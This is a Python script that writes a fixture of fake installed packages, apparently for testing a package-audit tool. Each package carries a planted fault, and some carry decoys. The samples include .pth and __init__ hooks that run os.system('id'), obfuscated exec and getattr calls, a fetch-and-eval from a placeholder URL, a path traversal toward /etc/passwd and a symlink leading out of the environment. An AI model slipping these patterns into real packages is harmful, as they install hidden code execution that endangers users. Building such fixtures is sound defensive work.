"""Builds the planted environment beside this file: small fake distributions with every fault that the gate has a rule for.

    python make.py            writes lib/ again; the result is the same bytes every time
    python make.py FOLDER     writes it there

Nothing in it is ever run. What must be found is in truth.json, which this script does not write: each of its rows was held against a fault below. A distribution's RECORD is
computed from its files; a fault is a row that is then written otherwise. Decoys look bad and must not be flagged; each says why.
"""

from __future__ import annotations

import base64
import hashlib
import os
import shutil
import sys
from collections.abc import Mapping
from dataclasses import dataclass, field
from importlib.util import source_hash
from pathlib import Path

SITE = "lib/python3.11/site-packages"
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00\x01\x00\x00\x00" + bytes(40)
PYC_MAGIC_311 = (3495).to_bytes(2, "little") + b"\r\n"
UNCHECKED_HASH = (0b01).to_bytes(4, "little")

Files = Mapping[str, str | bytes]


@dataclass(frozen=True)
class Planted:
    """`rows` replaces or adds RECORD rows (None: no row); `record=False` leaves RECORD out."""

    name: str
    files: Files = field(default_factory=dict)
    version: str = "1.0"
    licence: str = "License-Expression: MIT"
    headers: tuple[str, ...] = ()
    pure: bool = True
    rows: Mapping[str, str | None] = field(default_factory=dict)
    extra: Files = field(default_factory=dict)  # More files of its .dist-info.
    record: bool = True
    unlisted: Files = field(default_factory=dict)  # Files that it brings and RECORD does not list.


def digest(data: bytes, algorithm: str = "sha256") -> str:
    raw = hashlib.new(algorithm, data, usedforsecurity=False).digest()
    return f"{algorithm}={base64.urlsafe_b64encode(raw).rstrip(b'=').decode()}"


def pyc(source: bytes) -> bytes:
    """An unchecked hash-based .pyc (PEP 552) that says it was made from `source`. Its code object is None."""
    return PYC_MAGIC_311 + UNCHECKED_HASH + source_hash(source) + b"N"


GENUINE = "def add(a, b):\n    return a + b\n"
ENVIRONMENT: tuple[Planted, ...] = (
    # --- RECORD
    Planted(
        "altered",
        {"altered/__init__.py": "def add(a, b):\n    return a - b\n", "altered/data.json": '{"rate": 2}\n'},
        rows={
            "altered/__init__.py": f"altered/__init__.py,{digest(GENUINE.encode())},{len(GENUINE)}",
            "altered/data.json": f"altered/data.json,{digest(b'{}')},2",
        },
    ),
    Planted(
        "trojan",  # Altered, and the alteration starts a process: odd twice.
        {"trojan/__init__.py": 'import os\n\nos.system("id")\n'},
        rows={"trojan/__init__.py": f"trojan/__init__.py,{digest(b'')},0"},
    ),
    Planted(
        "sloppy",
        {"sloppy/__init__.py": "", "sloppy/a.py": "A = 1\n", "sloppy/b.py": "B = 2\n", "sloppy/c.py": "C = 3\n"},
        rows={
            "sloppy/gone.py": f"sloppy/gone.py,{digest(b'gone')},4",
            "sloppy/a.py": f"sloppy/a.py,{digest(b'A = 1' + bytes([10]))},999",
            "sloppy/b.py": "sloppy/b.py,,",
            "sloppy/c.py": f"sloppy/c.py,{digest(b'C = 3' + bytes([10]), 'md5')},6",
            "sloppy/folder": f"sloppy/folder,{digest(b'')},0",
            "bad": "sloppy/d.py,one,two,three,four",
            "../../../../etc/passwd": "../../../../etc/passwd,,",
        },
        unlisted={"sloppy/folder/.keep": ""},
    ),
    Planted("recordless", {"recordless/__init__.py": ""}, record=False),
    Planted("linked", {"linked/__init__.py": ""}, rows={"linked/away.txt": f"linked/away.txt,{digest(b'')},0"}),
    # --- ownership, orphans, bytecode
    Planted("first-owner", {"shared.py": "OWNER = 'first'\n"}, rows={"shared.py": f"shared.py,{digest(b'1')},1"}),
    Planted("second-owner", {"shared.py": "OWNER = 'second'\n"}),
    # Decoy: two parts of one namespace, legitimately shared, no file in common.
    Planted("space-one", {"space/one/__init__.py": "VALUE = 1\n"}),
    Planted(
        "space-two",
        {"space/two/__init__.py": "from space import one\n\nVALUE = one.VALUE\n"},
        headers=("Requires-Dist: space-one",),
    ),
    Planted(
        "frozen",
        {
            "frozen/__init__.py": "X = 1\n",
            "frozen/other.py": "Y = 2\n",
            "frozen/__pycache__/__init__.cpython-311.pyc": pyc(b"X = 1\n"),
            "frozen/__pycache__/other.cpython-311.pyc": pyc(b"Y = 3\n"),
            "frozen/hidden.pyc": PYC_MAGIC_311 + bytes(12) + b"N",
        },
    ),
    # --- dependencies
    Planted(
        "needy",
        {
            "needy/__init__.py": "import space.one\nimport nowhere_to_be_found\n\nfrom . import late\n",
            # Decoys: an import that the author guards, one in a function that is optional, one for type checkers.
            "needy/late.py": "from typing import TYPE_CHECKING\n\nif TYPE_CHECKING:\n    import typing_only\n"
            "try:\n    import optional_thing\nexcept ImportError:\n    optional_thing = None\n\n\n"
            "def later():\n    import much_later\n\n    return much_later\n",
        },
        headers=(
            "Requires-Dist: absent-thing>=2",
            "Requires-Dist: altered>=9",
            "Requires-Dist: sloppy",
            "Requires-Dist: this is not a requirement",
            # Decoys: markers that do not hold here, and an extra that nobody asked for.
            'Requires-Dist: only-old; python_version < "3"',
            'Requires-Dist: only-extra; extra == "more"',
            "Provides-Extra: more",
        ),
    ),
    # --- licences
    Planted("no-licence", {"no_licence.py": ""}, licence=""),
    Planted("odd-licence", {"odd_licence.py": ""}, licence="License: do what you want, but ask Bob"),
    Planted(
        "two-licences",
        {"two_licences.py": ""},
        licence="License: MIT\nClassifier: License :: OSI Approved :: GNU General Public License v3 (GPLv3)",
    ),
    Planted("gpl-two", {"gpl_two.py": ""}, licence="License-Expression: GPL-2.0-only"),
    Planted("agpl", {"agpl.py": ""}, licence="License-Expression: AGPL-3.0-or-later"),
    # Decoy: a choice that includes a permissive licence is no conflict.
    Planted("choice", {"choice.py": ""}, licence="License-Expression: GPL-2.0-only OR MIT"),
    Planted(
        "apache",
        {"apache.py": "import agpl\nimport choice\nimport gpl_two\n"},
        licence="License-Expression: Apache-2.0",
        headers=("Requires-Dist: gpl-two", "Requires-Dist: agpl", "Requires-Dist: choice"),
    ),
    # --- native code
    Planted("native", {"native/_fast.cpython-311-x86_64-linux-gnu.so": ELF, "native/__init__.py": ""}, pure=False),
    Planted("impure", {"impure/_surprise.so": ELF, "impure/__init__.py": "", "impure/logo.png": ELF}),
    # --- start-up hooks
    Planted(
        "hooked",
        {
            "hooked.py": "def start():\n    return None\n",
            "hooked.pth": "# a comment\nimport hooked; hooked.start()\n",
            "hooked_paths.pth": "/opt/elsewhere\n",
        },
    ),
    Planted("evil-hook", {"evil-hook.pth": "import os; os.system('id')\n"}),
    Planted("customized", {"sitecustomize.py": "SETTING = 1\n"}),
    # --- behaviour
    Planted(
        "risky",
        {
            "risky/__init__.py": "",
            "risky/executes.py": "CODE = input\n\n\ndef build(text):\n    exec(text)\n\n\nbuild(str(CODE))\n",
            "risky/spawns.py": "from subprocess import run as go\n\ngo(['true'])\n",
            "risky/connects.py": "import socket\n\nSOCKET = socket.create_connection(('192.0.2.1', 9))\n",
            "risky/loads.py": "import ctypes\nimport pickle\n\nLIB = ctypes.CDLL('libc.so.6')\nVALUE = pickle.loads(b'N.')\n",
            "risky/writes.py": "from pathlib import Path\n\nPath('/tmp/planted').write_text('x')\nopen('/tmp/planted', mode='w')\n",
            "risky/computes.py": "import os\n\nNAME = 'tem'\ngetattr(os, 'sys' + NAME)('id')\n",
            "risky/decodes.py": "import base64\n\nBLOB = base64.b64decode('cGFzcw==')\nexec(BLOB)\n",
            "risky/drops.py": "import urllib.request\n\nTEXT = urllib.request.urlopen('https://example.invalid').read()\n"
            "eval(TEXT)\n",
            "risky/leaps.py": "from risky import target\n\nthing = target.Thing()\n",
            "risky/target.py": "import os\n\n\nclass Thing:\n    def __init__(self):\n        self.go()\n\n"
            "    def go(self):\n        os.popen('id')\n",
            "risky/hides.py": "if __name__ != '__main__':\n    __import__('os').system('id')\n",
            "risky/broken.py": "def broken(:\n",
            # Decoys: never called, called only as a script, only named, or only looks like it.
            "risky/decoys.py": "import os\nimport re\nimport subprocess\n\n\ndef never():\n    exec('1')\n    os.system('id')\n\n\n"
            "def also_never(command):\n    return subprocess.run(command)\n\n\nclass Quiet:\n    def run(self):\n"
            "        eval('1')\n\n\nPATTERN = re.compile('exec(x)')\nHANDLERS = {'run': never}\nTEXT = 'os.system(1)'\n"
            "handler = lambda: exec('1')\nwith open(__file__) as file:\n    LINES = file.read()\n\n"
            "if __name__ == '__main__':\n    never()\n    os.system('id')\n",
        },
    ),
    # --- entry points and origins
    Planted(
        "command-one",
        {"command_one.py": "def main():\n    return 0\n"},
        extra={"entry_points.txt": "[console_scripts]\ngo = command_one:main\nlost = command_gone:main\n"},
    ),
    Planted(
        "command-two",
        {"command_two.py": "def main():\n    return 0\n"},
        extra={"entry_points.txt": "[console_scripts]\ngo = command_two:main\n"},
    ),
    Planted("from-url", {"from_url.py": ""}, extra={"direct_url.json": '{"url": "https://example.invalid/a.whl", '
            '"archive_info": {"hashes": {"sha256": "00"}}}\n'}),
    Planted("from-http", {"from_http.py": ""}, extra={"direct_url.json": '{"url": "http://example.invalid/b.whl", '
            '"archive_info": {}}\n'}),
)  # fmt: skip

UNOWNED: Files = {
    "orphan.py": "import subprocess\n\nsubprocess.run(['true'])\n",
    "orphan.pth": "import orphan\n",
    "leftover/readme.txt": "left behind\n",
    "stray.pyc": PYC_MAGIC_311 + bytes(12) + b"N",
    # Decoy: bytecode of a source that is there, as Python writes it on first import.
    "__pycache__/orphan.cpython-311.pyc": PYC_MAGIC_311 + bytes(12) + b"N",
}


def build(root: Path) -> None:
    site = root / SITE
    shutil.rmtree(root / "lib", ignore_errors=True)
    for item in ENVIRONMENT:
        _install(site, item)
    for path, content in UNOWNED.items():
        _write(site / path, content)
    # A link out of the environment: planted/ is the prefix, and this leads above it.
    os.symlink("../../../../../plan.yaml", site / "linked/away.txt")


def _install(site: Path, item: Planted) -> None:
    folder = f"{item.name.replace('-', '_')}-{item.version}.dist-info"
    tag = "py3-none-any" if item.pure else "cp311-cp311-linux_x86_64"
    metadata = [
        "Metadata-Version: 2.4", f"Name: {item.name}", f"Version: {item.version}", f"Summary: The planted distribution {item.name}.",
        "Author: Somebody", "Project-URL: Home, https://example.invalid/", *([item.licence] if item.licence else []), *item.headers,
    ]  # fmt: skip
    files: dict[str, str | bytes] = {
        **item.files,
        f"{folder}/METADATA": "\n".join(metadata) + "\n",
        f"{folder}/WHEEL": f"Wheel-Version: 1.0\nGenerator: planted\nRoot-Is-Purelib: {str(item.pure).lower()}\nTag: {tag}\n",
        f"{folder}/INSTALLER": "pip\n",
        **{f"{folder}/{name}": content for name, content in item.extra.items()},
    }
    for path, content in {**files, **item.unlisted}.items():
        _write(site / path, content)
    if item.record:
        rows = {path: f"{path},{digest(_bytes(content))},{len(_bytes(content))}" for path, content in files.items()}
        chosen = {**rows, **item.rows, f"{folder}/RECORD": f"{folder}/RECORD,,"}
        _write(site / folder / "RECORD", "".join(f"{row}\n" for row in chosen.values() if row is not None))


def _bytes(content: str | bytes) -> bytes:
    return content.encode() if isinstance(content, str) else content


def _write(path: Path, content: str | bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(_bytes(content))


if __name__ == "__main__":
    build(Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent)
